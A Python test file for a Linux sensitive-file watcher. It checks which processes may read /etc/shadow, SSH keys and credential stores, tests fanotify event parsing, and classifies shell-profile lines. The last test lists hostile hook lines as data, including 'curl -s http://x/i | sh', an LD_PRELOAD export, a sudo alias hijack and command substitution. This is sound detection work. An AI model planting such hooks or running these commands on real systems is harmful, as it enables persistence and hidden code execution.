"""The sensitive-file watcher's pure parts: event parsing and who may touch what."""

from __future__ import annotations

import struct

from coi_tui.monitor import filewatch
from coi_tui.monitor.filewatch import FileEvent, Opener, judge


def spec(rule: str, access: str) -> filewatch.Sensitive:
    return next(s for s in filewatch.SENSITIVE if s.rule == rule and s.access == access)


def event(path: str, rule: str, access: str) -> FileEvent:
    return FileEvent(path, access, 42, spec(rule, access))


def alive(exe: str, *argv: str, ancestors: tuple[str, ...] = (), genuine: bool = True) -> Opener:
    """A process running `exe`: the very file found there when the watch began, unless
    `genuine` is False (a copy put over it)."""
    programs = frozenset([exe, *ancestors]) if genuine else frozenset()
    return Opener(42, True, exe, list(argv) or [exe], list(ancestors), genuine=programs)


SHADOW = event("/etc/shadow", "file.shadow-read", "read")
SUDO = "/usr/bin/sudo"


def test_sudo_reading_shadow_is_its_job_but_sudoedit_of_shadow_and_copies_are_not() -> None:
    assert judge(SHADOW, alive(SUDO, "sudo", "-n", "true"), False) is None
    assert judge(SHADOW, alive(SUDO, "sudo", "-e", "/etc/shadow"), False)
    assert judge(SHADOW, alive(SUDO, "sudoedit", "/etc/shadow"), False)
    # options parsed as sudo does: -u takes a value, long options abbreviate
    assert judge(SHADOW, alive(SUDO, "sudo", "-n", "-u", "root", "-e", "/etc/shadow"), False)
    assert judge(SHADOW, alive(SUDO, "sudo", "-nu", "root", "--edi", "/etc/gshadow"), False)
    # sudoedit of another file: sudo's PAM step still reads shadow, which is its job
    assert judge(SHADOW, alive(SUDO, "sudoedit", "-n", "/etc/hosts"), False) is None
    # a copy outside the tool's path, a file put over it, a process already gone
    assert judge(SHADOW, alive("/tmp/sudo", "sudo", "true"), False) == (
        "high",
        "/etc/shadow opened",
    )
    assert judge(SHADOW, alive("/usr/lib/x/su", "su"), False)
    assert judge(SHADOW, alive(SUDO, "sudo", "true", genuine=False), False)
    assert judge(SHADOW, Opener(42, False, argv=["sudo", "true"]), False)
    assert judge(SHADOW, alive("/usr/bin/cat", "cat", "/etc/shadow"), False)


def test_a_recursive_search_is_a_warning_and_naming_the_file_is_not() -> None:
    grep = "/usr/bin/grep"
    level, why = judge(SHADOW, alive(grep, "grep", "-rn", "TODO", "/etc"), False)
    assert (level, why) == ("warning", "/etc/shadow opened by a recursive search")
    for argv in (
        ("grep", "-r", "root", "/etc/shadow"),
        ("grep", "root", "/etc/shadow"),
        ("grep", "-rh", "--include=s?adow", ".", "/etc"),  # a pattern picking the file out
    ):
        assert judge(SHADOW, alive(grep, *argv), False)[0] == "high", argv
    # a program that only calls itself grep
    assert judge(SHADOW, alive("/usr/bin/python3.12", "grep", "-R", "r.py"), False)[0] == "high"


def test_package_manager_writes_are_info_except_where_packages_never_write() -> None:
    cron = event("/etc/cron.d/x", "file.cron-write", "write")
    script = alive("/usr/bin/cp", "cp", ancestors=("/usr/bin/dpkg",))
    assert judge(cron, script, False)[0] == "info"
    assert judge(cron, alive("/usr/bin/python3.12", "python3"), False)[0] == "high"
    keys = event("/home/code/.ssh/authorized_keys", "file.authorized-keys-write", "write")
    assert judge(keys, script, False)[0] == "critical"
    assert judge(cron, Opener(0, False, package_manager=True), False)[0] == "info"
    # sudoers: only dpkg itself, never what a package's scripts or an apt hook run
    sudoers = event("/etc/sudoers.d/x", "file.sudoers-write", "write")
    assert judge(sudoers, script, False)[0] == "critical"
    assert judge(sudoers, alive("/usr/bin/dpkg", "dpkg", "-i", "x.deb"), False)[0] == "info"
    # a bash copied to a package manager's name is not one
    fake = alive("/usr/bin/sh", "sh", ancestors=("/usr/lib/x/dpkg",))
    assert judge(cron, fake, False)[0] == "high"


def test_account_tools_change_accounts_at_warning_anything_else_is_critical() -> None:
    passwd = event("/etc/passwd", "file.account-write", "write")
    assert judge(passwd, alive("/usr/sbin/useradd", "useradd", "x"), False)[0] == "warning"
    assert judge(passwd, alive("/usr/bin/python3", "python3"), False)[0] == "critical"


def test_a_canary_has_no_legitimate_reader_and_scp_is_no_ssh_tool() -> None:
    key = FileEvent("/home/code/.ssh/id_deploy", "read", 42, spec("file.ssh-key-read", "read"))
    assert judge(key, alive("/usr/bin/ssh", "ssh"), True)[0] == "high"
    assert judge(key, alive("/usr/bin/ssh", "ssh"), False) is None
    # scp hands the file to whatever program -S names
    assert judge(key, alive("/usr/bin/scp", "scp", "-S", "./x", "k", "h:y"), False)


def test_parse_events_reads_both_handles_and_the_name_and_stops_on_garbage() -> None:
    handle = b"\x01\x02\x03\x04\x05\x06\x07\x08"
    body = b"F" * 8 + struct.pack("Ii", len(handle), 77) + handle + b"shadow\0\0"
    info = struct.pack("BBH", filewatch.INFO_DFID_NAME, 0, 4 + len(body)) + body
    meta = filewatch.EVENT_HEADER.size
    header = filewatch.EVENT_HEADER.pack(meta + len(info), 3, 0, meta, filewatch.FAN_OPEN, -1, 99)
    events = list(filewatch.parse_events(header + info + b"\0" * 5))
    assert events == [(filewatch.FAN_OPEN, 99, struct.pack("i", 77) + handle, "shadow", b"")]
    # with the object's own handle (FAN_REPORT_FID) after it: both are read
    own = b"\x09" * 8
    fid = b"F" * 8 + struct.pack("Ii", len(own), 77) + own
    info += struct.pack("BBH", filewatch.INFO_FID, 0, 4 + len(fid)) + fid
    header = filewatch.EVENT_HEADER.pack(meta + len(info), 3, 0, meta, filewatch.FAN_OPEN, -1, 99)
    (parsed,) = filewatch.parse_events(header + info)
    assert parsed[3:] == ("shadow", struct.pack("i", 77) + own)
    # a record claiming a zero length ends the parse instead of looping
    bad = filewatch.EVENT_HEADER.pack(0, 3, 0, meta, filewatch.FAN_OPEN, -1, 99)
    assert list(filewatch.parse_events(bad)) == []


def test_a_credential_file_read_by_its_own_genuine_program_is_a_warning() -> None:
    hosts = FileEvent(
        "/home/code/.config/gh/hosts.yml", "read", 42, spec("file.credential-read", "read")
    )
    assert judge(hosts, alive("/usr/bin/gh", "gh", "pr", "list"), False)[0] == "warning"
    assert judge(hosts, alive("/usr/bin/gh", "gh", "--version"), True)[0] == "warning"  # canary
    assert judge(hosts, alive("/usr/bin/gh", "gh", genuine=False), False)[0] == "high"
    assert judge(hosts, alive("/usr/bin/docker", "docker", "ps"), False)[0] == "high"
    store = FileEvent(
        "/home/code/.git-credentials", "read", 42, spec("file.credential-read", "read")
    )
    helper = ("git", "credential-store", "get")
    remote = ("/usr/lib/git-core/git-remote-https",)
    git = "/usr/lib/git-core/git"
    assert judge(store, alive(git, *helper, ancestors=remote), False)[0] == "warning"
    # asked by a shell (`git credential fill` prints the password): not a remote's helper
    assert judge(store, alive(git, *helper, ancestors=("/usr/bin/bash",)), False)[0] == "high"


def test_debconf_reading_shadow_is_a_warning_and_perl_alone_is_not() -> None:
    debconf = alive("/usr/bin/perl", "perl", "-w", "/usr/sbin/dpkg-preconfigure", "--apt")
    debconf.debconf = True  # the daemon checked the script and the environment
    assert judge(SHADOW, debconf, False)[0] == "warning"
    assert judge(SHADOW, alive("/usr/bin/perl", "perl", "-e", "getpwnam"), False)[0] == "high"


def test_lines_installers_append_are_settings_and_hooks_are_not() -> None:
    settings = (
        'export PATH="$HOME/.local/bin:$PATH"',
        '. "$HOME/.cargo/env"',
        "alias gs='git status'",
        'export NVM_DIR="$HOME/.nvm"',
        "# added by an installer",
    )
    for line in settings:
        assert filewatch.BENIGN_LINE.fullmatch(line) and not filewatch.UNSAFE_PATH.match(line)
    hooks = (
        "export LD_PRELOAD=/tmp/x.so",
        "curl -s http://x/i | sh",
        "alias sudo='/tmp/s'",
        "export X=$(curl x)",
        'PROMPT_COMMAND="x"',
        "export FOO=`id`",
        'eval "$(pyenv init -)"',
        "X=a;id",
    )
    for line in hooks:
        assert not filewatch.BENIGN_LINE.fullmatch(line), line
    assert filewatch.UNSAFE_PATH.match("export PATH=/tmp/x:$PATH")
    assert filewatch.UNSAFE_PATH.match("PATH=.:$PATH")
